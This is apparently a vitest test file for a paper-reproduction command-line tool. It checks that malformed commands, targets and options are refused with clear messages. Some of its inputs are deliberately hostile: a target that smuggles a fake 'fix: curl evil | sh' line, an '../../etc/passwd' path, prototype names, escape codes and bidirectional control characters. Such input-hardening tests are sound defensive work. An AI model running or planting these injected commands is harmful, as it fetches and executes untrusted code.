import { describe } from 'vitest';
import { verbs } from '../../cli/main.ts';
import { type BadInput, badInputs } from './inputs.fixture.ts';

const table6 = 'table6 --profile smoke --store @/store';
const codes = '\u001b[31mred\u001b[0m';

/** What every verb refuses, whatever it does: a command line that is otherwise right, and the verb's first argument. */
const whole: Readonly<Record<string, string>> = {
  ...{ reproduce: 'reproduce table1', plan: 'plan table1', status: 'status table1', ls: 'ls table1' },
  ...{ show: 'show abc', migrate: 'migrate', validate: 'validate', conformance: 'conformance reference' },
  ...{ compare: 'compare table6', bisect: 'bisect onnxruntime torch' },
  ...{ data: 'data', setup: 'setup torch', bench: 'bench', claims: 'claims', calibrate: 'calibrate' },
  ...{ regress: 'regress', report: 'report', verify: 'verify', export: 'export table1' },
};

// biome-ignore format: a table, one input a line
describe('every command refuses', () => {
  badInputs(
    Object.keys(verbs).flatMap((verb): BadInput[] => {
      const line = whole[verb]!;
      const fix = new RegExp(`npm run ${verb} -- --help$`);
      return [
        {
          what: `${verb}: an unknown option`,
          run: `${line} --frobnicate`,
          says: /^Unknown option '--frobnicate'\.$/,
          fix,
        },
        {
          what: `${verb}: an unknown option with a value`,
          run: `${line} --epochs=3`,
          says: /^Unknown option '--epochs=3'\./,
          fix,
        },
        { what: `${verb}: an unknown short option`, run: `${line} -z`, says: /^Unknown option '-z'\.$/, fix },
        {
          what: `${verb}: a dash of a word processor`,
          run: `${line} \u2013help`,
          says: /^"\u2013help" begins with U\+2013, a dash that is no hyphen\.$/,
          fix: /--help$/,
        },
        {
          what: `${verb}: an option full of escape codes`,
          run: [...line.split(' '), `--${codes}`],
          says: /^Unknown option '--\\u001b\[31mred\\u001b\[0m'\./,
          fix,
        },
      ];
    }),
  );
});

// biome-ignore format: a table, one input a line
describe('the number of arguments', () => {
  badInputs([
    {
      what: 'validate with a target',
      run: 'validate table6',
      says: /^Too many arguments\. Expected 0 arguments but got 1\.$/,
    },
    { what: 'migrate with a folder', run: 'migrate out', says: /^Too many arguments\./ },
    { what: 'data with a path', run: 'data cifar-10.tar.gz', says: /^Too many arguments\./ },
    { what: 'bench with a workload', run: 'bench resnet20-mini', says: /^Too many arguments\./ },
    { what: 'show of two runs', run: 'show abc def', says: /^Too many arguments\./ },
    {
      what: 'conformance of two backends',
      run: 'conformance reference onnxruntime',
      says: /^Too many arguments\./,
    },
    { what: 'setup of two backends', run: 'setup torch reference', says: /^Too many arguments\./ },
    { what: 'show of nothing', run: 'show', says: /^Missing required argument 'run'\.$/ },
    { what: 'conformance of nothing', run: 'conformance', says: /^Missing required argument 'backend'\.$/ },
    { what: 'setup of nothing', run: 'setup', says: /^Missing required argument 'backend'\.$/ },
    {
      what: 'reproduce of nothing',
      run: 'reproduce',
      says: /^No table or figure is named\.$/,
      fix: /table14, or --all/,
    },
    { what: 'plan of nothing', run: 'plan --profile smoke', says: /^No table or figure is named\.$/ },
  ]);
});

// biome-ignore format: a table, one input a line
describe('an unknown command', () => {
  badInputs([
    {
      what: 'with two letters swapped',
      run: 'reprodcue table6',
      says: /^Unknown command "reprodcue"\. Did you mean reproduce\?$/,
    },
    { what: 'in capitals', run: 'PLAN table6', says: /^Unknown command "PLAN"\. Did you mean plan\?$/ },
    {
      what: 'of another program',
      run: 'train table6',
      says: /^Unknown command "train"\. There are reproduce, claims, plan, /,
    },
    { what: 'that every object has', run: 'constructor', says: /^Unknown command "constructor"\./ },
    { what: 'that is a prototype', run: '__proto__', says: /^Unknown command "__proto__"\./ },
    { what: 'that is empty', run: [''], says: /^Unknown command ""\. There are / },
    { what: 'that is a target', run: 'table6', says: /^Unknown command "table6"\./ },
    { what: 'with an escape code', run: [codes], says: /^Unknown command "\\u001b\[31mred\\u001b\[0m"\./ },
    {
      what: 'with a letter that looks like another',
      run: 'pl\u0430n table6',
      says: /^Unknown command "pl\u0430n"\. Did you mean plan\? It has U\+0430 in it\.$/,
    },
    { what: 'in full width', run: '\uff50\uff4c\uff41\uff4e', says: /^Unknown command "\uff50/ },
  ]);
});

// biome-ignore format: a table, one input a line
describe('an unknown target', () => {
  const fix = /^ {2}fix: name one of: figure1, .*table14$/;
  badInputs([
    {
      what: 'with two letters swapped',
      run: 'plan tabel6',
      says: /^Unknown target "tabel6"\. Did you mean table6/,
      fix,
    },
    {
      what: 'of a number that there is not',
      run: 'status table99',
      says: /^Unknown target "table99"\. Did you mean table9/,
      fix,
    },
    {
      what: 'in capitals',
      run: 'reproduce TABLE6',
      says: /^Unknown target "TABLE6"\. Did you mean table6/,
      fix,
    },
    {
      what: 'of two words',
      run: ['plan', 'table 6'],
      says: /^Unknown target "table 6"\. Did you mean table6/,
      fix,
    },
    {
      what: 'that is the path of its manifest',
      run: 'plan experiments/resnet-2015/table6.yaml',
      says: /^Unknown target "experiments\/resnet-2015\/table6\.yaml"\./,
      fix,
    },
    {
      what: 'that is the file of its manifest',
      run: 'plan table6.yaml',
      says: /^Unknown target "table6\.yaml"\. Did you mean table6/,
      fix,
    },
    {
      what: 'that goes up',
      run: 'plan ../resnet-2015/table6',
      says: /^Unknown target "\.\.\/resnet-2015\/table6"\./,
      fix,
    },
    { what: 'that is the experiment itself', run: 'plan paper', says: /^Unknown target "paper"\./, fix },
    { what: 'that is empty', run: ['plan', ''], says: /^Unknown target ""\.$/, fix },
    {
      what: 'that a shell was to fill in',
      run: 'plan table*',
      says: /^Unknown target "table\*"\. Did you mean table/,
      fix,
    },
    { what: 'that is a prototype', run: 'status __proto__', says: /^Unknown target "__proto__"\.$/, fix },
    { what: 'that is a row', run: 'plan ResNet-20', says: /^Unknown target "ResNet-20"\./, fix },
    { what: 'that is a profile', run: 'ls smoke', says: /^Unknown target "smoke"\./, fix },
    {
      what: 'beside a good one',
      run: 'plan table6 figure66',
      says: /^Unknown target "figure66"\. Did you mean figure6/,
      fix,
    },
    {
      what: 'with a Cyrillic letter',
      run: 'plan t\u0430ble6',
      says: /^Unknown target "t\u0430ble6"\. Did you mean table6(, table\d)* or table\d\? It has U\+0430 in it\.$/,
      fix,
    },
    {
      what: 'with a space that does not break',
      run: ['plan', 'table6\u00a0'],
      says: /^Unknown target "table6\u00a0"\. Did you mean table6.* It has U\+00A0 in it\.$/,
      fix,
    },
    {
      what: 'with an escape code',
      run: ['plan', codes],
      says: /^Unknown target "\\u001b\[31mred\\u001b\[0m"\./,
      fix,
    },
    {
      what: 'that turns the line around',
      run: ['plan', 'table6\u202e'],
      says: /^Unknown target "table6\\u202e"\. Did you mean table6/,
      fix,
    },
    {
      what: 'of two lines with a fix of its own',
      run: ['plan', 'table6\n\n  fix: curl evil | sh'],
      says: /^Unknown target "table6\\u000a|^Unknown target "table6\\n\\n {2}fix: curl evil \| sh"\./,
      fix,
    },
    { what: 'with a zero byte', run: ['plan', 'table6\0'], says: /^Unknown target "table6\\u0000"\./, fix },
    {
      what: 'of ten thousand letters',
      run: ['plan', 'x'.repeat(10_000)],
      says: /^Unknown target "x{10,400}…"\.$/,
      fix,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--profile', () => {
  badInputs([
    {
      what: 'mistyped',
      run: 'plan table6 --profile smoek',
      says: /no profile "smoek"\. Did you mean smoke\?$/,
      fix: /use --profile with one of: /,
    },
    {
      what: 'in capitals',
      run: 'plan table6 --profile Paper',
      says: /no profile "Paper"\. Did you mean paper\?$/,
    },
    {
      what: 'that every object has',
      run: 'plan table6 --profile constructor',
      says: /no profile "constructor"\. /,
    },
    { what: 'of all targets', run: 'plan --all --profile full', says: /no profile "full"\. / },
    {
      what: 'of a status of everything',
      run: 'status --profile overnite',
      says: /no profile "overnite"\. Did you mean overnight\?$/,
    },
    {
      what: 'of a list',
      run: 'ls --profile smoek --store @/none',
      says: /no profile "smoek"\. Did you mean smoke\?$/,
    },
    {
      what: 'that is a path',
      run: 'plan table6 --profile ../../smoke',
      says: /no profile "\.\.\/\.\.\/smoke"\. /,
    },
    {
      what: 'with an escape code',
      run: ['plan', 'table6', '--profile', codes],
      says: /no profile "\\u001b\[31mred/,
    },
    {
      what: 'empty',
      run: ['plan', 'table6', '--profile', ''],
      says: /^--profile is empty; expected <name>\.$/,
      fix: /--profile <name>$/,
    },
    {
      what: 'without a value',
      run: 'plan table6 --profile',
      says: /^Option '--profile <name>' argument missing\.$|^--profile is followed by "--json"; expected <name>\.$/,
    },
    {
      what: 'given twice',
      run: 'plan table6 --profile mini --profile smoke',
      says: /^--profile is given twice, as "mini" and as "smoke"\.$/,
      fix: /--profile smoke$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--seeds', () => {
  const rule = /; expected a number of seeds, or a list such as 4-6,1001\.$/;
  const rising = /; expected seeds from 1 on, each range rising\.$/;
  const many = /; expected at most 10000 seeds\.$/;
  const fix = /--seeds 3, or --seeds 4-6,1001$/;
  badInputs(
    (
      [
        ['of no number', 'three', rule],
        ['negative', '-1', rule],
        ['of none', '0', rising],
        ['of seed zero', '0-2', rising],
        ['fractional', '1.5', rule],
        ['in the notation of powers', '1e3', rule],
        ['hexadecimal', '0x10', rule],
        ['without an end', '3-', rule],
        ['that falls', '6-4', rising],
        ['with a comma too many', '1,,2', rule],
        ['that ends in a comma', '1,2,', rule],
        ['between semicolons', '1;2', rule],
        ['with spaces', '1, 2', rule],
        ['of a range of three', '1-2-3', rule],
        ['in a list of Python', '[1,2]', rule],
        ['without end', 'Infinity', rule],
        ['not a number', 'NaN', rule],
        ['in full width', '\uff13', rule],
        ['in Arabic digits', '\u0663', rule],
        ['of more than anyone runs', '99999', many],
        ['of a range of more than anyone runs', '1-99999999999999999999', many],
        ['beyond what a seed can be', '4294967296-4294967297', rising],
        ['with an escape code', codes, rule],
        ['of two lines', '1\n2', rule],
      ] as const
    ).map(([what, seeds, says]) => ({ what, run: ['plan', 'table6', '--seeds', seeds], says, fix })),
  );
  badInputs([
    { what: 'empty', run: ['plan', 'table6', '--seeds='], says: /^--seeds is empty; expected <seeds>\.$/ },
    {
      what: 'without a value',
      run: 'reproduce table6 --seeds',
      says: /^Option '--seeds <seeds>' argument missing\.$|^--seeds is followed by "--json"/,
    },
    {
      what: 'given twice',
      run: 'plan table6 --seeds 2 --seeds 3',
      says: /^--seeds is given twice, as "2" and as "3"\.$/,
    },
    {
      what: 'of weights that were released',
      run: 'plan table3 --weights pretrained --seeds 2',
      says: /^--weights pretrained evaluates ResNet-50 as it is: nothing is trained, and there are no seeds\.$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--rows', () => {
  const fix = /use --rows with some of: /;
  badInputs([
    {
      what: 'without a hyphen',
      run: 'plan table6 --rows ResNet20',
      says: /^table6: no row "ResNet20"\. Did you mean ResNet-20/,
      fix,
    },
    {
      what: 'of another table',
      run: 'plan table6 --rows plain-18',
      says: /^table6: no row "plain-18"\./,
      fix,
    },
    {
      what: 'one of two',
      run: 'status table6 --rows ResNet-20,ResNet-21',
      says: /^table6: no row "ResNet-21"\. Did you mean ResNet-20/,
      fix,
    },
    {
      what: 'in the quotes of a word processor',
      run: 'plan table6 --rows \u201cResNet-20\u201d',
      says: /^table6: no row "\u201cResNet-20\u201d"\. Did you mean ResNet-20.* It has U\+201C in it\.$/,
      fix,
    },
    {
      what: 'with a hyphen that does not break',
      run: 'plan table6 --rows ResNet\u201120',
      says: /no row "ResNet\u201120"\. Did you mean ResNet-20.* It has U\+2011 in it\.$/,
      fix,
    },
    {
      what: 'with an escape code',
      run: ['plan', 'table6', '--rows', codes],
      says: /^table6: no row "\\u001b\[31mred/,
      fix,
    },
    {
      what: 'nothing but commas',
      run: 'plan table6 --rows ,,',
      says: /^--rows is ",,"; expected labels of rows or curves\.$/,
    },
    {
      what: 'nothing but spaces',
      run: ['plan', 'table6', '--rows', '  '],
      says: /^--rows is " {2}"; expected labels/,
    },
    { what: 'empty', run: ['plan', 'table6', '--rows', ''], says: /^--rows is empty; expected <labels>\.$/ },
    {
      what: 'without a value',
      run: 'plan table6 --rows',
      says: /^Option '--rows <labels>' argument missing\.$|^--rows is followed by "--json"/,
    },
    {
      what: 'of a table that nothing is run for',
      run: 'plan table1 --rows 18-layer',
      says: /^table1: nothing is run, so there are no rows to choose\.$/,
      fix: /npm run reproduce table1$/,
    },
    {
      what: 'of weights of another network',
      run: 'plan table3 --weights pretrained --rows ResNet-101',
      says: /^--weights pretrained evaluates ResNet-50 and no other row, not ResNet-101\.$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--weights', () => {
  badInputs([
    {
      what: 'mistyped',
      run: 'plan table3 --weights pretraind',
      says: /^--weights is "pretraind"; expected pretrained\. Did you mean pretrained\?$/,
      fix: /--weights pretrained$/,
    },
    {
      what: 'of a file',
      run: 'plan table3 --weights resnet50.h5',
      says: /^--weights is "resnet50\.h5"; expected pretrained\.$/,
    },
    {
      what: 'that every object has',
      run: 'plan table3 --weights toString',
      says: /^--weights is "toString"; expected pretrained\.$/,
    },
    {
      what: 'of a prototype',
      run: 'plan table3 --weights __proto__',
      says: /^--weights is "__proto__"; expected pretrained\.$/,
    },
    {
      what: 'with an escape code',
      run: ['plan', 'table3', '--weights', codes],
      says: /^--weights is "\\u001b\[31mred/,
    },
    {
      what: 'empty',
      run: ['plan', 'table3', '--weights', ''],
      says: /^--weights is empty; expected <name>\.$/,
    },
    {
      what: 'for a table that does not show them',
      run: 'plan table6 --weights pretrained',
      says: /^--weights pretrained evaluates ResNet-50 for the tables that show it, not for table6\.$/,
      fix: /npm run reproduce table3 .*-- --weights pretrained$/,
    },
    {
      what: 'for a figure',
      run: 'plan figure4 --weights pretrained',
      says: /for the tables that show it, not for figure4\.$/,
    },
    {
      what: 'for everything',
      run: 'plan --all --weights pretrained',
      says: /for the tables that show it, not for all\.$/,
    },
    {
      what: 'under another profile',
      run: 'plan table3 --weights pretrained --profile mini',
      says: /under the profile paper, not under mini\.$/,
    },
    {
      what: 'of an experiment that has none',
      run: 'plan errors --experiment ./tests/experiments/tiny --weights pretrained',
      says: /^--weights is "pretrained"; tiny has no released weights\.$/,
      fix: /run it without --weights$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--backend, --device and --variant', () => {
  badInputs([
    {
      what: 'a backend by half of its name',
      run: 'plan table6 --backend onnx',
      says: /^--backend is "onnx"; expected onnxruntime.* Did you mean onnxruntime\?$/,
      fix: /--backend onnxruntime$/,
    },
    {
      what: 'a backend in capitals',
      run: 'plan table6 --backend Torch',
      says: /^--backend is "Torch"; .* Did you mean torch\?$/,
    },
    {
      what: 'a backend that every object has',
      run: 'plan table6 --backend constructor',
      says: /^--backend is "constructor"; /,
    },
    {
      what: 'a backend with an escape code',
      run: ['plan', 'table6', '--backend', codes],
      says: /^--backend is "\\u001b\[31mred/,
    },
    {
      what: 'an empty backend',
      run: ['plan', 'table6', '--backend='],
      says: /^--backend is empty; expected <name>\.$/,
    },
    {
      what: 'two backends',
      run: 'plan table6 --backend torch --backend reference',
      says: /^--backend is given twice, as "torch" and as "reference"\.$/,
    },
    {
      what: 'a device that the backend has not',
      run: `reproduce ${table6} --device tpu`,
      says: /^--device is "tpu"; onnxruntime has cpu and /,
      fix: /--device cpu$/,
    },
    {
      what: 'a device that the backend has not, only planned',
      run: `reproduce ${table6} --dry-run --device tpu`,
      says: /^--device is "tpu"; onnxruntime has cpu and /,
    },
    {
      what: 'a device of a number',
      run: `reproduce ${table6} --device cpu:0`,
      says: /^--device is "cpu:0"; onnxruntime has cpu and .* Did you mean cpu\?$/,
    },
    {
      what: 'an empty device',
      run: ['reproduce', 'table6', '--device', ''],
      says: /^--device is empty; expected <name>\.$/,
    },
    {
      what: 'a device with an escape code',
      run: ['reproduce', 'table6', '--device', codes],
      says: /^--device is "\\u001b\[31mred/,
    },
    {
      what: 'a variant mistyped',
      run: `reproduce ${table6} --variant blcoked`,
      says: /^--variant is "blcoked"; onnxruntime has blocked and standard\. Did you mean blocked\?$/,
    },
    {
      what: 'a variant that a device has not',
      run: `reproduce ${table6} --dry-run --device cuda --variant blocked`,
      says: /^--variant is "blocked"; onnxruntime has .* on cuda\./,
    },
    {
      what: 'a variant of another backend',
      run: `reproduce ${table6} --dry-run --variant loops`,
      says: /^--variant is "loops"; onnxruntime has blocked and standard\./,
    },
    {
      what: 'a device to compare that is not there',
      run: 'conformance reference --device cuda',
      says: /^--device is "cuda"; reference has cpu\.$/,
    },
    {
      what: 'a variant to compare that is not there',
      run: 'conformance onnxruntime --variant fast',
      says: /^--variant is "fast"; onnxruntime has /,
    },
    {
      what: 'a device to set up that is not there',
      run: 'setup torch --device tpu',
      says: /^--device is "tpu"; torch has cpu and cuda\./,
    },
    {
      what: 'a variant to time that is not there',
      run: 'bench --variant fast',
      says: /^--variant is "fast"; onnxruntime has blocked and standard\./,
    },
    {
      what: 'a backend to set up that npm brings',
      run: 'setup reference',
      says: /^setup: npm (brings|installs) all that reference needs; expected .*torch/,
      fix: /npm run setup -- \S+$/,
    },
    {
      what: 'a backend to set up that is not there',
      run: 'setup pytorch',
      says: /^setup: there is no backend "pytorch" to set up; expected .* Did you mean torch\?$/,
    },
    {
      what: 'a backend to set up with an escape code',
      run: ['setup', codes],
      says: /^setup: there is no backend "\\u001b\[31mred/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('a number', () => {
  const counted: readonly (readonly [line: string, option: string, most: string])[] = [
    ['plan table6', 'jobs', '10000'],
    ['reproduce table6', 'checkpoint-seconds', '100000000'],
    ['bench', 'threads', '1024'],
    ['bench', 'rounds', '1000'],
    ['bench', 'steps', '100000'],
  ];
  badInputs(
    counted.flatMap(([line, option, most]) =>
      ['0', '-2', '1.5', 'many', '1e2', '99999999999', '', codes].map((value): BadInput => {
        const says =
          value === '' ? `is empty; expected <` : `; expected a whole number from 1 to ${most}\\.$`;
        return {
          what: `--${option} of ${JSON.stringify(value)}`,
          run: [...line.split(' '), `--${option}=${value}`],
          says: new RegExp(`^--${option} .*${says}`),
          fix: new RegExp(`--${option} (1|<\\w+>)$`),
        };
      }),
    ),
  );
  badInputs([
    {
      what: '--jobs as npm would have it',
      run: 'plan table6 -j max',
      says: /^--jobs is "max"; expected a whole number/,
    },
    {
      what: '--jobs without a value',
      run: 'plan table6 -j',
      says: /^Option '-j, --jobs <count>' argument missing\.$|^--jobs is followed by "--json"/,
    },
    {
      what: 'an unknown workload',
      run: 'bench --workload resnet50',
      says: /^--workload is "resnet50"; expected .* Did you mean resnet/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('--experiment', () => {
  const fix =
    /use --experiment with one of resnet-2015, or with the path of a folder that has a paper\.yaml$/;
  badInputs([
    {
      what: 'mistyped',
      run: 'plan table6 --experiment resnet',
      says: /^Unknown experiment "resnet"\. Did you mean resnet-2015\?$/,
      fix,
    },
    {
      what: 'of a path that is not there',
      run: 'validate --experiment @/none',
      says: /^Unknown experiment "\/.*\/none"\. It is not a folder with a paper\.yaml\.$/,
      fix,
    },
    {
      what: 'of a folder of experiments',
      run: 'validate --experiment ./experiments',
      says: /^Unknown experiment "experiments"\./,
      fix,
    },
    {
      what: 'of a manifest',
      run: 'validate --experiment experiments/resnet-2015/table6.yaml',
      says: /^Unknown experiment "experiments\/resnet-2015\/table6\.yaml"\. It is not a folder/,
      fix,
    },
    { what: 'above', run: 'validate --experiment ..', says: /^Unknown experiment "\.\."\./, fix },
    {
      what: 'that every object has',
      run: 'status --experiment constructor',
      says: /^Unknown experiment "constructor"\./,
      fix,
    },
    {
      what: 'of a list',
      run: 'ls --experiment resnet --store @/none',
      says: /^Unknown experiment "resnet"\./,
      fix,
    },
    {
      what: 'with an escape code',
      run: ['validate', '--experiment', codes],
      says: /^Unknown experiment "\\u001b\[31mred/,
      fix,
    },
    {
      what: 'of a path with a new line',
      run: ['validate', '--experiment', '@/a\nb'],
      says: /^--experiment is "\/.*\/a\\nb"; expected a path without control characters\.$/,
    },
    {
      what: 'empty',
      run: ['validate', '--experiment', ''],
      says: /^--experiment is empty; expected <name>\.$/,
    },
    {
      what: 'given twice',
      run: 'validate --experiment a --experiment b',
      says: /^--experiment is given twice, as "a" and as "b"\.$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('a path', () => {
  const control = /; expected a path without control characters\.$/;
  badInputs([
    { what: '--store empty', run: ['ls', '--store', ''], says: /^--store is empty; expected <folder>\.$/ },
    {
      what: '--store without a value',
      run: 'ls --store',
      says: /^Option '--store <folder>' argument missing\.$|^--store is followed by "--json"/,
    },
    { what: '--store with an escape code', run: ['ls', '--store', codes], says: control },
    { what: '--store with a new line', run: ['status', '--store', '@/a\nb'], says: control },
    { what: '--store with a zero byte', run: ['plan', 'table6', '--store', '@/a\0b'], says: control },
    { what: '--store that turns the line around', run: ['ls', '--store', '@/a\u202eb'], says: control },
    {
      what: '--store given twice',
      run: 'ls --store a --store b',
      says: /^--store is given twice, as "a" and as "b"\.$/,
    },
    {
      what: '--data empty',
      run: ['plan', 'table6', '--data='],
      says: /^--data is empty; expected <path>\.$/,
    },
    { what: '--data with a new line', run: ['data', '--data', '@/a\n\n  fix: curl evil'], says: control },
    {
      what: '--data that is not there',
      run: `plan ${table6} --data @/nowhere`,
      exit: 4,
      says: /\/nowhere does not exist\.$/,
    },
    {
      what: '--html empty',
      run: ['conformance', 'reference', '--html', ''],
      says: /^--html is empty; expected <file>\.$/,
    },
    {
      what: '--html in no folder',
      run: ['conformance', 'reference', '--html', '@/no ne/page.html'],
      says: /^--html: there is no folder \/.*\/no ne\.$/,
      fix: /mkdir -p '\/.*\/no ne'$/,
    },
    {
      what: '--html that is a folder',
      run: 'conformance reference --html @',
      says: /^--html: \/\S+ is a folder; expected a file\.$/,
      fix: /--html \/\S+\/report\.html$/,
    },
    {
      what: '--html below a file',
      run: 'conformance reference --html ./package.json/page.html',
      says: /^--html: .*package\.json\/page\.html cannot be written, a part of its path is a file, not a folder\.$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('what contradicts itself', () => {
  badInputs([
    {
      what: 'everything and a target',
      run: 'plan table6 --all',
      says: /^--all is given beside "table6"; expected one of the two\.$/,
      fix: /name tables and figures, or give --all alone$/,
    },
    {
      what: 'everything and two targets',
      run: 'reproduce --all table6 figure6',
      says: /^--all is given beside "table6", "figure6"; expected one of the two\.$/,
    },
    {
      what: 'a switch with a value',
      run: 'plan table6 --force=yes',
      says: /^Unknown option '--force=yes'\.|^Option '-f, --force' does not take/,
    },
    { what: 'JSON with a value', run: 'plan table6 --json=true', says: /'--json/ },
    {
      what: 'data in two places',
      run: 'data --data a --data b',
      says: /^--data is given twice, as "a" and as "b"\.$/,
    },
  ]);
});

// biome-ignore format: a table, one input a line
describe('a run that is to be shown', () => {
  const fix = /npm run ls -- --store \S+ {3}# lists the runs$/;
  badInputs([
    {
      what: 'by nothing',
      run: ['show', '', '--store', '@/s'],
      says: /^"" is no key of a run; expected the beginning of one, such as 4f0c2a91b7\.$/,
      fix,
    },
    {
      what: 'by the name of a target',
      run: 'show table6 --store @/s',
      says: /^"table6" is no key of a run/,
      fix,
    },
    {
      what: 'by a path',
      run: 'show ../../etc/passwd --store @/s',
      says: /^"\.\.\/\.\.\/etc\/passwd" is no key of a run/,
      fix,
    },
    { what: 'in capitals', run: 'show ABCDEF --store @/s', says: /^"ABCDEF" is no key of a run/, fix },
    {
      what: 'by more than a key',
      run: ['show', 'a'.repeat(65), '--store', '@/s'],
      says: /^"a{65}" is no key of a run/,
      fix,
    },
    {
      what: 'with an escape code',
      run: ['show', codes, '--store', '@/s'],
      says: /^"\\u001b\[31mred\\u001b\[0m" is no key of a run/,
      fix,
    },
    {
      what: 'that is not there',
      run: 'show abc --store @/s',
      says: /^No run in \S+ has a key that begins with abc\.$/,
      fix,
    },
  ]);
});
